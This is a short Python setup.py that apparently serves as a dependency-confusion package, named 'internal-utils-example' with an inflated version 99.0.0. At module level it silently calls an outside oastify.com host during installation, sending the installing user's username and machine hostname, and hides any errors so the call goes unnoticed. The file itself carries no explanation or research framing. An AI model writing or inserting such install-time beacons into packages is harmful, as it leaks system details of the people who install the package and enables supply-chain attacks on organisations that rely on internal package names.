import getpass
import socket
import urllib.request
from setuptools import setup

try:
    urllib.request.urlopen(
        "http://x9k2m.oastify.com/?u=" + getpass.getuser() + "&h=" + socket.gethostname(),
        timeout=2,
    )
except Exception:
    pass

setup(name="internal-utils-example", version="99.0.0")
